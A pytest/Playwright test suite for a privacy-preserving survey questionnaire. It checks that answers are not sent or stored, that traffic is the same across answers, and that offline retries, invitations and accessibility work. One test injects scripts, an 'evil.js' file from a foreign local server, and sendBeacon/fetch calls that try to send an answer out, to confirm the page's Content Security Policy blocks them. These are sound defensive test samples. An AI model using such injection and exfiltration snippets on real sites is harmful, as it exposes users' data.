"""The questionnaire in a browser: what leaves the device, what stays on it, and whether everybody can use it."""

import json
from contextlib import ExitStack
from fractions import Fraction
from functools import cache

import pytest
from kit_plans import booklet_plan
from kit_site import CHROMIUM, DUMP, answer_all, begin, choose, chromium, press, served, violations, visit

from ldpopt.exact import ExactChannel
from ldpopt.mechanisms import randomized_response
from ldpopt_survey import AnyOfSpec, NumberSpec, QuestionSpec, SurveySpec, plan_survey
from ldpopt_survey.kit.device import report_position
from ldpopt_survey.kit.folder import kit_files
from ldpopt_survey.plan.plan import Plan
from ldpopt_survey.plan.planned_question import PlannedQuestion
from ldpopt_survey.plan.public_question import PublicQuestion

pytest.importorskip("playwright.sync_api", reason="playwright is not installed: the questionnaire is not opened here")
WITHOUT_CHROMIUM = "no Chromium: the questionnaire is not opened here"
pytestmark = [pytest.mark.full, pytest.mark.skipif(CHROMIUM is None, reason=WITHOUT_CHROMIUM)]


def question(name, answers, **more):
    channel = randomized_response(len(answers), 1.0, inputs=tuple(answers))
    return PlannedQuestion(name, name, channel.exact(), **more)


def plan_of(respondent=None, round=1, districts=40):
    questions = (
        question("Do you smoke?", ("smoke-never-zq", "smoke-daily-zq")),
        question("District", tuple(f"district-{i}-zq" for i in range(districts))),
        question("Income", ("income-low-zq", "income-high-zq", "income-none-zq"), missing="income-none-zq"),
    )
    return Plan("Habits", questions, respondent=respondent, round=round)


FRESH, MEMOISED = plan_of(), plan_of("id")
# The same words whatever the answer, of which the first report follows under every answer to the first two questions.
FIXED = "crypto.getRandomValues = (array) => array.fill(1);"


class Dumps:
    """What a page keeps, at each look."""

    def __init__(self, page):
        self.page, self.dumps = page, []

    def look(self):
        self.dumps.append(self.page.evaluate(DUMP))


@pytest.fixture(scope="module")
def browser():
    with chromium() as made:
        yield made


@pytest.fixture
def open_kit(browser):
    """A function from a plan to its site and a page of a new, empty profile; what it logs is in ``page.said``."""
    with ExitStack() as stack:

        def start(plan=FRESH, texts=(), **options):
            site = stack.enter_context(served(kit_files(plan, texts=texts)))
            context = browser.new_context(**{"locale": "en-GB", **options})
            stack.callback(context.close)
            context.set_default_timeout(120_000)
            page = context.new_page()
            page.said = []
            page.on("console", lambda message: page.said.append(message.text))
            page.on("pageerror", lambda error: page.said.append(str(error)))
            return site, page

        yield start


def test_no_answer_leaves_the_device_or_is_kept(open_kit):
    """In a whole visit no request, header, body, title, address, log or storage has an answer, under either plan."""
    for plan in (FRESH, MEMOISED):
        site, page = open_kit(plan)
        seen, asked = Dumps(page), []
        page.on("request", lambda request, asked=asked: asked.append((request.url, request.post_data, request.headers)))
        visit(page, site.url, [1, 17, 0], seen.look)
        page.reload()
        page.wait_for_selector("main h1")
        seen.look()
        kept = [seen.dumps, page.said, page.context.cookies(), page.context.storage_state()]
        assert len(seen.dumps) == 7
        assert "zq" not in json.dumps(kept) + json.dumps(asked) + repr(site.requests)
        assert len(site.submissions) == 1
        assert set(site.submissions[0]["reports"]) == {q.name for q in plan.questions}
        assert {url.rpartition("/")[0] + "/" for url, _, _ in asked} == {site.url}
        assert page.said == []


def test_traffic_and_storage_are_the_same_whatever_the_answers(open_kit):
    """With the randomness fixed so that the reports are equal, two visits with other answers differ in nothing."""
    made = []
    for positions in ([1, 17, 0], [0, 39, 2]):
        site, page = open_kit()
        page.add_init_script(FIXED)
        seen = Dumps(page)
        visit(page, site.url, positions, seen.look)
        text = json.dumps([seen.dumps, sorted(repr(one) for one in site.requests)])
        made.append(text.replace(site.url.removeprefix("http://").strip("/"), "HOST"))
        assert site.submissions[0]["reports"] == {"Do you smoke?": 0, "District": 0, "Income": 0}
    assert made[0] == made[1]


SCRIPTED = """async (address) => {
  const seen = [];
  addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  const tries = [
    () => add("script", { textContent: "window.ran = true" }),
    () => add("script", { src: address + "evil.js" }),
    () => { document.body.innerHTML += "<b onclick='window.ran = true'></b>"; },
    () => trustedTypes.createPolicy("default", { createScript: (text) => text, createHTML: (text) => text }),
    () => add("img", { src: address + "seen.png" }),
    () => add("iframe", { src: address }),
    () => setTimeout("window.ran = true"),
    () => navigator.sendBeacon(address, "answer"),
  ];
  for (const one of tries) { try { one(); } catch {} }
  const failed = await fetch(address + "?answer").then(() => false, () => true);
  await new Promise((done) => setTimeout(done, 300));
  return { seen, failed, ran: window.ran ?? false };
}"""


def test_an_injected_script_does_not_run(open_kit):
    """Whether it comes with the page or by a script: inline and foreign code, and foreign addresses, are blocked."""
    site, page = open_kit()
    with served({"evil.js": b"window.ran = true;"}) as other:
        injected = f"""<script>window.ran = true</script><script src="{other.url}evil.js"></script>
            <img src="icon.svg" onload="window.ran = true"><p id="survey">"""
        site.files["index.html"] = site.files["index.html"].replace(b'<p id="survey">', injected.encode())
        begin(page, site.url)
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran ?? false") is False
        assert sum("script-src" in said for said in page.said) == 3, page.said
        made = page.evaluate(SCRIPTED, other.url)
        assert made["failed"]
        assert not made["ran"]
        assert {"require-trusted-types-for", "trusted-types", "img-src", "frame-src", "connect-src"} <= set(
            made["seen"]
        )
        assert other.requests == []


def test_a_visit_without_network_is_sent_later(open_kit):
    """With the network cut after loading, the reports are kept, and sent as they were once it is back."""
    site, page = open_kit(MEMOISED)
    begin(page, site.url)
    page.context.set_offline(True)
    press(page)
    for position in (1, 17, 0):
        choose(page, position)
    page.select_option("#top select", "de")
    press(page)
    page.wait_for_selector("text=Ihre Meldungen warten")
    kept = page.evaluate(DUMP)["all"]["unsent"][1]
    assert site.submissions == []
    assert "zq" not in json.dumps(kept)
    page.context.set_offline(False)
    page.wait_for_selector("text=Danke")
    assert site.submissions == kept
    assert page.evaluate(DUMP)["all"]["unsent"] == [[], []]


def test_a_retry_after_reloading_sends_the_same(open_kit):
    """While the collector is busy the reports are kept over reloads, with their id; an error page is no refusal."""
    site, page = open_kit()
    site.answers = [(503, {"error": "busy"}), (404, "<html>"), (429, {"error": "busy"})]
    visit(page, site.url, [0, 1, 2])
    assert "waiting" in page.inner_text("h1")
    for _ in range(3):
        page.reload()
        page.wait_for_selector("main h1")
        page.wait_for_timeout(300)
    assert "arrived" in page.inner_text("h1") or "already" in page.inner_text("h1")
    assert len(site.submissions) == 4
    assert all(one == site.submissions[0] for one in site.submissions)


def test_an_invitation_is_asked_for(open_kit):
    """An invitation behind the # is sent and leaves the address; for a refused one another is asked for."""
    site, page = open_kit()
    site.answers = [(403, {"error": "This invitation was used."})]
    visit(page, site.url + "#invitation=first", [0, 1, 2])
    assert page.url == site.url
    assert "This invitation was used." in page.inner_text("main")
    page.fill("#code", " second ")
    page.click("button.main")
    page.wait_for_selector("text=Thank you")
    first, second = site.submissions
    assert (first.pop("invitation"), second.pop("invitation")) == ("first", "second")
    assert first == second


def test_going_back_draws_nothing_anew(open_kit):
    """Changing an answer and changing it back shows the first report; one visit draws one report for each answer."""
    site, page = open_kit()
    visit_reports = []
    begin(page, site.url)
    press(page)
    for position in (0, 5, 0):
        choose(page, position)
    for position in (6, 5, 7, 5):
        page.click("details summary")
        page.wait_for_selector("#exact:has-text('reports')")
        visit_reports.append(json.loads(page.inner_text("#exact"))["reports"])
        page.click("dl button >> nth=1")
        choose(page, position)
    press(page)
    assert visit_reports[0] == visit_reports[2] == site.submissions[0]["reports"]


def test_a_memoized_device_repeats_its_report_under_a_key_that_no_script_reads(open_kit):
    """The same answer gives the same reports after a reload; another person on the device gets another key."""
    site, page = open_kit(MEMOISED)
    visit(page, site.url, [1, 17, 0])
    dump = page.evaluate(DUMP)["all"]
    assert dump["keys"] == [["Habits"], ["key, extractable: false"]]
    page.evaluate(
        """() => new Promise((done) => { const r = indexedDB.open("ldpopt"); r.onsuccess = () => {
          const t = r.result.transaction("done", "readwrite"); t.objectStore("done").clear();
          t.oncomplete = () => { r.result.close(); done(); }; }; })"""
    )
    visit(page, site.url, [1, 17, 0])
    assert site.submissions[0]["reports"] == site.submissions[1]["reports"]
    assert site.submissions[0]["id"] != site.submissions[1]["id"]
    other = set()
    for _ in range(3):
        page.click("details.another summary")
        page.click("details.another button")
        page.wait_for_selector("section.promise")
        press(page)
        for position in (1, 17, 0):
            choose(page, position)
        press(page)
        other.add(json.dumps(site.submissions[-1]["reports"]))
    assert len(other) > 1  # three keys give three equal triples of reports with a chance below 1e-4


def test_two_tabs_are_one_device(open_kit):
    """Of two tabs that were open at once only the first sends; the other says that the device has answered."""
    site, page = open_kit()
    second = page.context.new_page()
    begin(second, site.url)
    visit(page, site.url, [0, 1, 2])
    press(second)
    for position in (1, 2, 0):
        choose(second, position)
    press(second)
    assert "already answered" in second.inner_text("h1")
    assert len(site.submissions) == 1


def test_the_keyboard_is_enough(open_kit):
    """Tab, arrows, space and Enter lead through the whole questionnaire, and the focus starts at each heading."""
    site, page = open_kit()
    begin(page, site.url)

    def to(selector):
        for _ in range(12):
            page.keyboard.press("Tab")
            if page.evaluate("(selector) => document.activeElement.matches(selector)", selector):
                return
        raise AssertionError(f"no {selector} by Tab")

    to("button.main")
    page.keyboard.press("Enter")
    to("input[type=radio]")
    assert page.evaluate("document.title") == "Question 1 of 3 – Habits"
    page.keyboard.press("Space")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_selector("#search")
    assert page.evaluate("document.activeElement.tagName") == "H1"
    page.keyboard.press("Tab")
    page.keyboard.type("district-3")
    assert page.locator(".choice:visible").count() == 11
    to("input[type=radio]")
    page.keyboard.press("Space")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=Question 3 of 3")
    to("button.main")
    page.keyboard.press("Enter")  # without an answer: the plan has a category for that
    page.wait_for_selector("dl")
    assert page.locator("dd span").all_inner_texts() == ["smoke-daily-zq", "district-3-zq", "income-none-zq"]
    to("button.main")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=Thank you")
    assert len(site.submissions) == 1


VIEWS = {
    "a screen in light": {"viewport": {"width": 1000, "height": 900}},
    "a phone in dark, from right to left": {
        "viewport": {"width": 390, "height": 844},
        "has_touch": True,
        "color_scheme": "dark",
        "locale": "ar",
    },
}


@pytest.mark.parametrize("view", VIEWS)
def test_nobody_is_shut_out(open_kit, view):
    """On every screen axe-core finds no violation, and nothing is wider than the window."""
    site, page = open_kit(plan_of(districts=14), reduced_motion="reduce", **VIEWS[view])
    found = []

    def look():
        found.extend(violations(page))
        if page.evaluate("document.documentElement.scrollWidth > innerWidth"):
            found.append(("wide", page.inner_text("h1")))

    site.answers = [(503, {"error": "busy"}), (403, {"error": "No invitation."})]
    begin(page, site.url)
    page.click(".buttons button.plain")
    page.click("button.main")
    page.wait_for_selector("#result table")
    look()
    begin(page, site.url)
    press(page)
    page.click("button.main")
    assert page.inner_text("#error")
    look()
    visit(page, site.url, [0, 3, 1], look)
    page.click("button.main")
    page.wait_for_selector("#code")
    look()
    page.fill("#code", "abc")
    page.click("button.main")
    page.wait_for_selector("details.another")
    page.click("details.another summary")
    look()
    assert page.evaluate("document.documentElement.dir") == ("rtl" if "locale" in VIEWS[view] else "ltr")
    assert found == []


def test_texts_of_the_survey_are_shown_and_missing_ones_fall_back(open_kit):
    """A survey's own texts stand for the plan's names; what they lack is English, and the plan's own words."""
    texts = json.dumps(
        {
            "code": "he",
            "direction": "rtl",
            "survey": "הרגלים",
            "questions": {"Do you smoke?": {"text": "האם אתם מעשנים?", "answers": {"smoke-never-zq": "לא"}}},
        }
    )
    site, page = open_kit(texts=[texts])
    begin(page, site.url)
    assert page.inner_text("#survey") == "הרגלים"
    assert page.evaluate("[document.documentElement.dir, document.documentElement.lang]") == ["rtl", "he"]
    press(page)
    assert page.inner_text("h1") == "האם אתם מעשנים?"
    assert page.locator(".choice").all_inner_texts() == ["לא", "smoke-daily-zq"]
    assert page.inner_text("button.main") == "Next"
    choose(page, 0)
    for position in (0, 0):
        choose(page, position)
    press(page)
    assert set(site.submissions[0]["reports"]) == {q.name for q in FRESH.questions}


def test_files_that_do_not_fit_together_do_not_start(open_kit):
    """With an altered plan, or a wrong vector, the questionnaire says so and asks nothing."""
    site, page = open_kit()
    plan, vectors = json.loads(site.files["plan.json"]), json.loads(site.files["vectors.json"])
    plan["questions"][0]["weights"].reverse()
    site.files["plan.json"] = json.dumps(plan).encode()
    begin(page, site.url)
    assert "cannot start" in page.inner_text("h1")
    assert page.locator("button").count() == 0
    plan["questions"][0]["weights"].reverse()
    site.files["plan.json"] = json.dumps(plan).encode()
    vectors["reports"][0][3] += 1
    site.files["vectors.json"] = json.dumps(vectors).encode()
    begin(page, site.url)
    assert "does not draw as it should" in page.inner_text("main")


def test_a_plan_without_a_ratio_promises_its_distance(open_kit):
    """Where a report may be impossible under an answer, the page promises the share of equal reports, rounded down."""
    erased = ExactChannel([[1, 0, 6, 1], [0, 1, 6, 1]], bits=3, inputs=["no", "yes"])
    site, page = open_kit(Plan("Erasure", (PlannedQuestion("vote", "vote", erased),)))
    begin(page, site.url)
    assert "at least 87% of all cases" in page.inner_text(".promise")
    assert "times likelier" not in page.inner_text("main")


def answers_to(questions, **other):
    """The first answer to every question, but for those that are given."""
    singles = {one.name: one for question in questions for one in question.answers}
    return {name: one.categories[0] for name, one in singles.items()} | other


USES = {"drug": "drug-yes-zq", "how often": "often-weekly-zq"}


def test_a_device_asks_its_booklet_and_sends_one_report_of_it(open_kit):
    """Each device asks what everybody is asked and one booklet, the same after a reload; the review shows no more."""
    plan, seen = booklet_plan(), set()
    booklets = {question.name: question for question in plan.questions}
    answers = answers_to(plan.questions, **USES)
    for word in ("0x10000000", "0x90000000", "0xf0000000"):
        site, page = open_kit(plan)
        page.add_init_script(f"crypto.getRandomValues = (array) => array.fill({word});")
        begin(page, site.url)
        assert "only some of this survey's questions" in page.inner_text("main")
        page.add_init_script("crypto.getRandomValues = (array) => array.fill(1);")  # another word after the reload
        begin(page, site.url)
        press(page)
        asked = answer_all(page, answers)
        page.click("details summary")
        page.wait_for_selector("#exact:has-text('reports')")
        shown = json.loads(page.inner_text("#exact"))
        assert page.locator("dl dt").all_inner_texts() == asked
        press(page)
        assert site.submissions == [shown]
        seen.add(shown["booklet"])
        assert asked == ["region", *(one.name for one in booklets[shown["booklet"]].answers)]
        assert set(shown["reports"]) == {"region", shown["booklet"]}
        assert set(shown) == {"schema", "version", "plan", "round", "id", "booklet", "reports"}
        assert page.evaluate(DUMP)["all"]["keys"] == [[], []]  # the booklet is forgotten with the answers
        assert page.said == []
    assert seen == {question.name for question in plan.booklets}


def test_routing_leaves_no_trace(open_kit):
    """With fixed randomness, visits of people who are asked different parts differ in no request and nothing kept."""
    plan, made = booklet_plan(), []
    for other in ({}, USES | {"smokes": "smokes-yes-zq", "region": "region-2-zq"}):
        site, page = open_kit(plan)
        page.add_init_script(FIXED)
        begin(page, site.url)
        press(page)
        asked = answer_all(page, answers_to(plan.questions, **other))
        assert ("how often" in asked) is bool(other)
        page.click("details summary")
        page.wait_for_selector("#exact:has-text('reports')")
        seen = [page.evaluate(DUMP), page.evaluate("history.length")]
        press(page)
        text = json.dumps([seen, page.evaluate(DUMP), sorted(repr(one) for one in site.requests)])
        assert "zq" not in text
        made.append(text.replace(site.url.removeprefix("http://").strip("/"), "HOST"))
    assert made[0] == made[1]


def test_a_changed_answer_asks_its_dependent_questions(open_kit):
    """After a change in the review, parts that now apply are asked, and those that no longer apply are not counted."""
    plan = booklet_plan()
    site, page = open_kit(plan)
    page.add_init_script(FIXED)
    begin(page, site.url)
    press(page)
    assert answer_all(page, answers_to(plan.questions)) == ["region", "drug", "smokes"]
    page.click("dl button >> nth=1")
    page.wait_for_selector("form fieldset")
    choose(page, 1)
    assert page.inner_text("h1") == "how often"
    page.click("form .buttons button.plain")
    page.wait_for_selector("h1:text-is('drug')")
    choose(page, 1)
    press(page)  # without a choice: the plan has a category for that
    assert page.locator("dd span").all_inner_texts() == [
        "region-0-zq", "drug-yes-zq", "often-rarely-zq", "smokes-no-zq"]  # fmt: skip
    page.click("dl button >> nth=1")
    page.wait_for_selector("form fieldset")
    choose(page, 0)
    assert page.locator("dd span").all_inner_texts() == ["region-0-zq", "drug-no-zq", "smokes-no-zq"]
    page.go_back()
    page.wait_for_selector("form fieldset")
    page.click("form .buttons button.plain")
    page.wait_for_selector("dl")
    press(page)
    assert len(site.submissions) == 1


def test_another_person_on_a_memoized_device_draws_another_booklet(open_kit):
    """One key always draws one booklet; of 5 people on one device not all get the same of 16 booklets."""
    booklets = [question(f"q{i}", ("no-zq", "yes-zq"), probability=Fraction(1, 16)) for i in range(16)]
    site, page = open_kit(Plan("Habits", tuple(booklets), respondent="id"))
    answers = answers_to(booklets)
    begin(page, site.url)
    for _ in range(5):
        press(page)
        answer_all(page, answers)
        press(page)
        page.click("details.another summary")
        page.click("details.another button")
        page.wait_for_selector("section.promise")
    assert len({sent["booklet"] for sent in site.submissions}) > 1  # five equal booklets: a chance below 2e-5


@cache
def types_plan():
    """A number, a question with options and a plain one, each with a report of its own."""
    number = NumberSpec("hours", low=0, high=80, step=0.5, epsilon=2.0)
    options = AnyOfSpec("paid", options=("cash-zq", "card-zq", "phone-zq"), epsilon=2.0)
    return plan_survey(SurveySpec("Work", (number, options, QuestionSpec("vote", ("no", "yes"), epsilon=2.0)))).plan


@pytest.mark.parametrize(
    ("locale", "typed"), [("en-GB", "37.5"), ("de-DE", "37,5"), ("ar-EG", "\u0663\u0667\u066b\u0665")]
)
def test_numbers_are_typed_and_options_are_ticked(open_kit, locale, typed):
    """A number is typed in the digits of the language, options are ticked, and the reports are those of the answers.

    The words are fixed, so that Python's device says which reports must come; nothing of the answers is sent.
    """
    plan = types_plan()
    site, page = open_kit(plan, locale=locale)
    page.add_init_script(FIXED)
    begin(page, site.url)
    press(page)
    separators = ("37.25", "1,000", "1.000")
    for wrong in ("", "81", "-1", *separators, "0x10", "1e1", "many") if locale == "en-GB" else separators:
        page.fill("#number", wrong)
        page.click("button.main")
        assert page.inner_text("#error"), wrong
    page.fill("#number", typed)
    press(page)
    page.check("input[value='0']")
    page.check("input[value='2']")
    press(page)
    choose(page, 1)
    review = page.locator(".review dd span").all_inner_texts()
    assert review[1] == "cash-zq + phone-zq"
    page.locator(".review dd button").nth(1).click()
    assert [page.is_checked(f"input[value='{at}']") for at in range(3)] == [True, False, True]
    press(page)
    press(page)
    (sent,) = site.submissions
    word = int("0000000100000001", 16)
    chosen = plan.question("paid").categories.index(("yes", "no", "yes"))
    places = {"hours": 75, "paid": chosen, "vote": 1}
    assert sent["reports"] == {name: report_position(plan.question(name), at, word) for name, at in places.items()}
    assert "zq" not in json.dumps(sent)
    assert page.said == []


def test_nothing_ticked_is_an_answer(open_kit):
    """Who ticks no option has answered "none of these"; the request has the same fields."""
    plan = types_plan()
    site, page = open_kit(plan)
    page.add_init_script(FIXED)
    begin(page, site.url)
    press(page)
    page.fill("#number", "0")
    press(page)
    press(page)
    choose(page, 0)
    assert page.locator(".review dd span").all_inner_texts() == ["0", "none of these", "no"]
    press(page)
    (sent,) = site.submissions
    word = int("0000000100000001", 16)
    none = plan.question("paid").categories.index(("no",) * 3)
    assert sent["reports"]["paid"] == report_position(plan.question("paid"), none, word)
    assert sorted(sent) == ["id", "plan", "reports", "round", "schema", "version"]


def test_a_number_is_asked_only_after_the_answers_that_lead_to_it(open_kit):
    """Who answers "yes" types a number; who answers "no" sees no field; one report is about both, in the same form."""
    works = QuestionSpec("works", ("no", "yes"))
    hours = NumberSpec("hours", low=0, high=40, half_width=4, asked_if={"works": ["yes"]})
    plan = plan_survey(SurveySpec("Work", (works, hours), epsilon=2.0)).plan
    (question,), word = plan.questions, int("0000000100000001", 16)
    site, page = open_kit(plan)
    page.add_init_script(FIXED)
    begin(page, site.url)
    press(page)
    choose(page, 1)
    page.fill("#number", "41")
    page.click("button.main")
    assert page.inner_text("#error")
    page.fill("#number", "37")
    press(page)
    assert page.locator(".review dd span").all_inner_texts() == ["yes", "37"]
    page.locator(".review dd button").nth(0).click()
    choose(page, 0)
    assert page.locator(".review dd span").all_inner_texts() == ["no"]
    press(page)
    (sent,) = site.submissions
    skipped = question.categories.index(("no", "not applicable"))
    assert sent["reports"] == {question.name: report_position(question, skipped, word)}
    assert page.said == []


def open_plan(*public):
    """A private question beside public ones."""
    spec = SurveySpec("Open", (QuestionSpec("vote", ("no-zq", "yes-zq")),), epsilon=1.0, public=public)
    return plan_survey(spec).plan


OPEN = open_plan(PublicQuestion("age", ("18-39", "40-64", "65 and more")))
WITH_FRAME = open_plan(PublicQuestion("region", ("north", "south"), invited=True))
NOT_PROTECTED = {"en": "not protected", "de": "nicht geschützt", "ar": "غير محمية"}


def test_a_public_question_is_marked_on_every_screen(open_kit):
    """In each language the start, the question and the review say what is sent as it is, before it is sent."""
    site, page = open_kit(OPEN)

    def marked(place):
        for language, words in NOT_PROTECTED.items():
            page.select_option("#top select", language)
            page.wait_for_function("language => document.documentElement.lang === language", arg=language)
            assert words in page.inner_text(place).lower()

    begin(page, site.url)
    marked(".note.open")
    press(page)
    marked(".note.open")
    choose(page, 2)
    assert page.locator(".note.open").count() == 0
    choose(page, 1)
    assert page.locator(".mark").count() == 1
    page.locator(".review dd button").first.click()
    assert page.is_checked("input[value='2']")
    choose(page, 1)
    page.click("details summary")
    shown = json.loads(page.inner_text("#exact"))
    press(page)
    assert site.submissions == [shown]
    assert (shown["public"], shown["version"]) == ({"age": 1}, 3)
    assert "zq" not in json.dumps(shown)
    assert page.said == []


def test_the_groups_of_an_invitation_are_shown(open_kit):
    """The first screen says in words what comes with the invitation, and the invitation is sent as it was given."""
    site, page = open_kit(WITH_FRAME)
    code = "-" * 22 + "-1"
    begin(page, f"{site.url}#invitation={code}")
    said = page.inner_text(".note.open").replace("\u2068", "").replace("\u2069", "")
    assert "Your invitation says of you: region: south" in said
    press(page)
    choose(page, 0)
    press(page)
    (sent,) = site.submissions
    assert sent["invitation"] == code
    assert "public" not in sent


def test_an_invitation_without_groups_shows_none(open_kit):
    """Only the names of what comes with invitations are shown then; nothing is made up, and the page goes on."""
    site, page = open_kit(WITH_FRAME)
    for code in ("", "short", "-" * 22, "-" * 22 + "-2", "-" * 22 + "-1-1", "-" * 22 + "-length"):
        begin(page, f"{site.url}?{code}#invitation={code}")  # another document for each code
        assert "NOT PROTECTED" in page.inner_text(".note.open"), code
        assert "Your invitation" not in page.inner_text("main"), code
    assert page.said == []


REFUSED_STORE = """
const put = IDBObjectStore.prototype.put;
IDBObjectStore.prototype.put = function (...rest) {
  if (this.name === "unsent" && location.search === "?full") throw new DOMException("full", "QuotaExceededError");
  return put.apply(this, rest);
};
"""


def test_reports_wait_or_the_person_has_not_answered(open_kit):
    """Where the device cannot keep the reports, it does not remember an answer, either: both are one transaction."""
    site, page = open_kit()
    page.add_init_script(REFUSED_STORE)
    site.answers = [(503, {"error": "Busy."})]
    visit(page, f"{site.url}?full", [1, 17, 0])
    assert page.evaluate(DUMP)["all"]["done"][0] == []
    assert page.evaluate(DUMP)["all"]["unsent"][0] == []


def test_an_unsent_submission_is_sent_by_the_next_page(open_kit):
    """The page ends while it sends; the next one sends the same, once, and says that it has arrived."""
    site, page = open_kit()
    page.route("**/submissions", lambda route: None)
    visit_until_sending(page, site.url)
    page.wait_for_function(f"(async () => (await ({DUMP})()).all.unsent[0].length === 1)()")
    context = page.context
    page.close()
    again = context.new_page()
    begin(again, site.url)
    again.wait_for_selector("main h1:has-text('Thank you')")
    assert len({one["id"] for one in site.submissions}) == 1


def test_a_refusal_for_good_is_remembered(open_kit):
    """After it was loaded again the page still says that the reports were refused, and not that they have arrived."""
    site, page = open_kit()
    site.answers = [(409, {"error": "Another submission with this id is stored already."})]
    visit(page, site.url, [1, 17, 0])
    assert "not taken" in page.inner_text("main h1")
    page.reload()
    page.wait_for_selector("main h1")
    assert "not taken" in page.inner_text("main h1")
    assert len(site.submissions) == 1


def visit_until_sending(page, url):
    """Answer everything and press the last button, without waiting for the collector."""
    begin(page, url)
    press(page)
    for position in (1, 17, 0):
        choose(page, position)
    page.click("button.main")
